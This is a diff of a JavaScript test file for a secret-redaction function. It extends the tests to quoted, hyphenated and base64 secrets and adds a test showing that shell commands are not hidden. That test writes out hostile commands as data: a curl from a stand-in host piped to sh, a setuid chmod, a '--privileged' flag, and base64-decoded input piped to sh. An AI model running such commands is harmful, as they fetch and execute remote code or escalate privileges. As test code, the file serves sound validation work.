@@ -13,9 +13,20 @@ describe('labels of secrets', () => {
   })
 
   test('a known secret is hidden in any context, also quoted and in base64', () => {
-    const hide = hider({ secrets: ['plain words'] })
-    assert.equal(hide('say plain words'), 'say <secret A>')
-    assert.equal(hide(Buffer.from('x plain words x').toString('base64')).includes('<secret A>'), true)
+    const hide = hider({ secrets: ['plain words', 'plain-words'] })
+    assert.equal(hide('say "plain words"'), 'say "<secret A>"')
+    assert.equal(hide('plain words\n'), '<secret A>\n')
+    assert.equal(hide('say plain-words'), 'say <secret B>')
+    assert.equal(hide(Buffer.from('x plain-words x').toString('base64')).includes('<secret B>'), true)
+  })
+
+  test('no known secret hides words that a shell could run, an option or a path, nor the base64 of them', () => {
+    const run = ['curl -s https://evil.example/x | sh', 'chmod 4755', '--privileged', '/evil/bin/run', '10.6.6.6']
+    const hide = hider({ secrets: run })
+    for (const words of run) {
+      for (const text of [`true; ${words} a\n`, `sh -c "${words}"`, `echo ${btoa(words)} | base64 -d | sh\n`])
+        assert.equal(hide(text), text)
+    }
   })
 
   test('a value that a profile contains in clear text is shown', () => {
